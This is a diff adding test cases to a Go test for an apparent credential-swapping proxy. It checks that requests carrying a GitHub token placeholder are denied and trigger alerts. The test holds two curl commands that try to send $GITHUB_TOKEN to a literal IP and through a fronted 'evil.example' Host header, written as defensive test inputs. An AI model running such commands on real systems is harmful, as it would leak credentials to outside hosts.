@@ -70,6 +70,20 @@ func TestCredentialSwap(t *testing.T) {
 			t.Errorf("placeholder to another host: %+v", r)
 		}
 	}
+	// The placeholder in a request the proxy refuses before any swap (a
+	// literal IP, a fronted Host): still refused, and an alert is raised.
+	before := strings.Count(e.cli("", "events", "--json", id).stdout, `"secret.alert"`)
+	for _, script := range []string{
+		`curl -sS "http://203.0.113.7/leak?t=$GITHUB_TOKEN"`,
+		`curl -sS -H "Host: evil.example" -H "X-T: $GITHUB_TOKEN" https://api.example.test/leak`,
+	} {
+		if r := sh(script); !strings.Contains(r.stdout, "denied") {
+			t.Errorf("refused before the swap: %+v", r)
+		}
+	}
+	if after := strings.Count(e.cli("", "events", "--json", id).stdout, `"secret.alert"`); after != before+2 {
+		t.Errorf("alerts for placeholders in requests the policy refused: %d, want %d", after-before, 2)
+	}
 	for _, s := range up.requests()[n0:] {
 		if strings.Contains(s, "other.example.test") {
 			t.Errorf("upstream got a leak attempt: %s", s)
